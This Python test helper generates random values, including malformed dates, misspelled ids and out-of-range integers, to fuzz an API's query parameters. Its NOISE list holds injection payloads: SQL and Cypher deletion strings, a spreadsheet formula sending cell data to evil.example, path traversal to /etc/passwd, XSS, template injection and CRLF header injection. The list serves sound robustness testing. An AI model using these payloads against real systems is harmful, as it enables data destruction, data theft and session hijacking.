"""A value for a parameter: one that is held or published, and now and then one that is not."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Any

from tests.house.net.stock import Stock

LANGUAGES = ("ar", "zh", "en", "fr", "ru", "es")
FACETS = (
    "provider", "recipient", "sector", "modality", "kind", "outcome", "group", "year", "funder",
    "facilitator",
)  # fmt: skip
SPOKEN = (*LANGUAGES, "pt", "sw", *LANGUAGES, "english")
REGIONS = ("Africa", "Western Africa", "caribbean", "Asia", "Americas", "Oceania", "Europ")
NOISE = (
    "'}) DETACH DELETE n //", 'provider:* OR (kind:exchange AND NOT id:[a TO z]) && \\ "~2 ^9', "", " ", "-",
    "'; DROP TABLE record; --", '=HYPERLINK("http://evil.example?x="&A1,"click")', "../../etc/passwd",
    "<script>alert(1)</script>", "{{7*7}}", "\x00", "\u202eRBL\u202c", "a" + "\u0301" * 20, "👩\u200d👧",
    "ﷺİıſK",
    "x" * 101, "unknown", "none", "null", "LBRR", "libera", "0", "*", "1_0", "٢", "x\r\nSet-Cookie: a=b",
)  # fmt: skip
_OF_KIND = {
    "provider": ("country", "country", "institution", "group"),
    "recipient": ("country", "country", "institution"),
    "participant": ("country", "institution"),
    "between": ("country", "institution"), "party": ("country", "institution", "group"),
    "institution": ("institution",), "facilitator": ("institution", "country"),
    "funder": ("institution", "country"), "supporter": ("institution", "country"), "sector": ("sector",),
    "programme": ("programme",), "group": ("group",), "source": ("source",), "country": ("country",),
    "for": ("country",), "id": ("exchange", "country", "institution", "sector", "source", "need"),
    "from": ("country", "institution", "exchange"), "to": ("country", "exchange", "institution"),
}  # fmt: skip
YEARS = (1000, 9999)
ENDLESS = 1 << 40
"""By their bounds, a year is told from a revision and from what is small."""
_OF_NOUN = {"countries": "country"}


class Values:
    """Draws values of a stock; the order of what it asks `random` decides what comes."""

    def __init__(self, stock: Stock, random: Random) -> None:
        self._random = random
        self._ids = {kind: sorted(ids) for kind, ids in sorted(stock.ids.items())}
        self._every = [i for ids in self._ids.values() for i in ids]
        self._codes = sorted(stock.codes) or ["0"]
        self._words = {language: sorted(stock.words[language]) or ["x"] for language in LANGUAGES}
        self._names = sorted(stock.names) or ["x"]
        self._dates = sorted(stock.dates) or ["2020"]
        self._revisions = stock.revisions

    def of(self, parameter: dict[str, Any], path: str) -> str:
        """A value for a parameter of the query."""
        name, schema = parameter["name"], parameter["schema"]
        name = "for" if name == "recipient" and path.endswith("suggestions") else name
        if self._random.random() < 0.03:
            return self._random.choice(NOISE)
        return self._closed(schema.get("items", schema)) or self.named(name)

    def _closed(self, schema: dict[str, Any]) -> str | None:
        if "enum" in schema:
            return str(self._random.choice(schema["enum"]))
        if "const" in schema:
            return str(schema["const"])
        if schema.get("type") == "boolean":
            return self._random.choice(("true", "false", "true", "false", "1", "maybe"))
        if schema.get("type") == "integer":
            return self._whole(schema)
        return None

    def _whole(self, schema: dict[str, Any]) -> str:
        low, high = schema.get("minimum", 0), schema.get("maximum", 100)
        if (low, high) == YEARS:
            return str(self._random.randint(1990, 2026))
        if high > ENDLESS:
            return str(self._random.randint(low, self._revisions + 1))
        if self._random.random() < 0.05:
            return str(self._random.choice((low - 1, high + 1, -5, 10**19)))
        return str(self._random.randint(low, min(high, 30)))

    def named(self, name: str) -> str:
        """What a parameter or a field of that name wants, mostly."""
        of_name: dict[str, Callable[[], str]] = {
            "q": self.words,
            "facets": lambda: self._listed((*FACETS, "none")),
            "via": lambda: self._listed(("groups", "sectors", "sources", "all")),
            "as_of": self.date,
            "language": lambda: self._random.choice(SPOKEN),
            "region": lambda: self._random.choice(REGIONS),
        }
        return of_name[name]() if name in of_name else self._like(_OF_KIND.get(name, ()))

    def _like(self, kinds: tuple[str, ...]) -> str:
        """The id of a record of one of the kinds, or what could stand in its place."""
        others: tuple[tuple[int, Callable[[], str]], ...] = (
            (80, lambda: self.id(kinds)),
            (4, lambda: self._spoilt(self.id(kinds))),
            (3, lambda: self.id(())),
            (3, lambda: self.id(("ended",))),
            (3, lambda: self._random.choice(self._names)),
            (4, lambda: self._random.choice(self._codes)),
            (2, lambda: "unknown"),
            (1, lambda: self._random.choice(NOISE)),
        )
        return self._random.choices([draw for _, draw in others], [often for often, _ in others])[0]()

    def id(self, kinds: tuple[str, ...]) -> str:
        """The id of a record of one of the kinds, or of any."""
        held = [kind for kind in kinds if self._ids.get(kind)]
        return self._random.choice(self._ids[self._random.choice(held)] if held else self._every)

    def of_path(self, path: str) -> str:
        """An id for the `{id}` of a path: of its noun, of another, ended, spoilt, or none at all."""
        noun = path.split("/")[2]
        kind = _OF_NOUN.get(noun, noun.removesuffix("s"))
        return self._like((kind,)) or "-"

    def words(self) -> str:
        """One word or several, of one language or mixed, whole or begun, sometimes with a typing error."""
        chance = self._random.random()
        if chance < 0.15:
            return self._random.choice(self._names)
        if chance < 0.2:
            return self.id(())
        language = self._random.choice(LANGUAGES)
        words = [self.word(language) for _ in range(self._random.choice((1, 1, 1, 2, 2, 3, 6)))]
        if chance < 0.3:
            words.append(self.word())
        if chance > 0.7:
            words[-1] = words[-1][: self._random.randint(1, 5)]
        if 0.6 < chance < 0.7:
            words[0] = self._spoilt(words[0])
        return " ".join(words)

    def word(self, language: str | None = None) -> str:
        """A word that stands in a text of the language, or of any."""
        return self._random.choice(self._words[language or self._random.choice(LANGUAGES)])

    def date(self) -> str:
        """A day, month or year, now and then none that is."""
        if self._random.random() < 0.1:
            return self._random.choice(("2020-13", "2019-02-30", "20", "yesterday", "9999-12-31", "0001"))
        return self._random.choice(self._dates)

    def _listed(self, names: tuple[str, ...]) -> str:
        return ",".join(self._random.choices(names, k=self._random.choice((1, 2, 3, 6))))

    def _spoilt(self, text: str) -> str:
        """The text with one letter changed, taken away, doubled, or in the other case."""
        at = self._random.randrange(len(text))
        other = self._random.choice((text[at].swapcase(), "", text[at] * 2, "q", " "))
        return text[:at] + other + text[at + 1 :]
